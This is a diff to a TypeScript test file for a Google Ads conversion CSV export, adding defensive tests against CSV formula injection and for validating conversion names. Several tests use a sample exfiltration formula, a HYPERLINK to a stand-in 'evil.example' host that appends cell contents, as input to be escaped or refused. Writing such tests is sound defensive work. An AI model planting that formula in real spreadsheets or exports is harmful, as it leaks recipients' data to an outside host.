@@ -2,7 +2,8 @@
 import { adParameters } from '@/lib/leads/attribution';
 import { leadRow, type StoredLead } from '../store/lead-store';
 import { sampleAdmission, sampleLead } from '@/test-support/sample-lead';
-import { toGoogleAdsCsv, type ConversionLead } from './google-ads-export';
+import { conversionName, conversionNameProblems } from '@/lib/validations/conversion-name';
+import { cell, toGoogleAdsCsv, type ConversionLead } from './google-ads-export';
 
 /** A new lead that landed on `landing_url` and was received at `received_at`. */
 const stored = (
@@ -75,5 +76,77 @@ describe("Google Ads' click-conversion upload", () => {
       'Parameters:TimeZone=+0530\r\n' +
         'Google Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency\r\n',
     );
+  });
+});
+
+describe("Google Ads' file against formula cells (OWASP's CSV injection guidance)", () => {
+  const PAYLOAD = '=HYPERLINK("https://evil.example/?c="&A1,"Click")';
+
+  it('defuses a cell that a spreadsheet would run as a formula, whatever it starts with', () => {
+    expect(cell(PAYLOAD)).toBe(`"'=HYPERLINK(""https://evil.example/?c=""&A1,""Click"")"`);
+    expect(['+1+1', '-2-3', '@SUM(A1)', ' =1+1', '\t=1', '\r=1'].map(cell)).toEqual([
+      "'+1+1",
+      "'-2-3",
+      "'@SUM(A1)",
+      "' =1+1",
+      "'\t=1",
+      `"'\r=1"`,
+    ]);
+    // Honest cells stay as Google's template has them.
+    expect(['Cj0KCQiA_abc-123', '2026-11-20 10:00:00', '1500.50', 'INR'].map(cell)).toEqual([
+      'Cj0KCQiA_abc-123',
+      '2026-11-20 10:00:00',
+      '1500.50',
+      'INR',
+    ]);
+  });
+
+  it('never writes a formula from a conversion name or a click id that starts one', () => {
+    const { csv, exported, skipped } = toGoogleAdsCsv(
+      [stored(5, 'https://leadwise.example/?gclid=-2-3', '2026-11-20T04:30:00.000Z'), leads[0]],
+      { conversion: PAYLOAD },
+    );
+    const rows = csv.split('\r\n').slice(2, -1);
+    expect(rows).toEqual([
+      `Cj0KCQiA_abc-123,"'=HYPERLINK(""https://evil.example/?c=""&A1,""Click"")",2026-11-20 10:00:00,,`,
+    ]);
+    expect([exported, skipped]).toEqual([1, 1]);
+  });
+});
+
+describe("The conversion action's name", () => {
+  it('takes a name as Google Ads spells it, trimmed', () => {
+    expect(conversionName('  Admission enquiry (Amity) – 2026 ')).toEqual({
+      ok: true,
+      name: 'Admission enquiry (Amity) – 2026',
+    });
+    expect(conversionName('Enquiry, "qualified"')).toEqual({
+      ok: true,
+      name: 'Enquiry, "qualified"',
+    });
+    expect(conversionName('प्रवेश पूछताछ')).toEqual({ ok: true, name: 'प्रवेश पूछताछ' });
+  });
+
+  it('refuses a formula, a missing or an overlong name with a clear message and what was typed', () => {
+    expect(conversionName('=HYPERLINK("https://evil.example","x")')).toEqual({
+      ok: false,
+      message: conversionNameProblems.characters,
+      typed: '=HYPERLINK("https://evil.example","x")',
+    });
+    expect(conversionName('+Enquiry')).toMatchObject({ ok: false });
+    expect(conversionName('Enquiry =1+1')).toMatchObject({ ok: false });
+    expect(conversionName('Lead @ Amity')).toMatchObject({ ok: false });
+    expect(conversionName('   ')).toMatchObject({
+      ok: false,
+      message: conversionNameProblems.missing,
+    });
+    expect(conversionName(null)).toMatchObject({
+      ok: false,
+      message: conversionNameProblems.missing,
+    });
+    expect(conversionName('a'.repeat(101))).toMatchObject({
+      ok: false,
+      message: conversionNameProblems.tooLong,
+    });
   });
 });
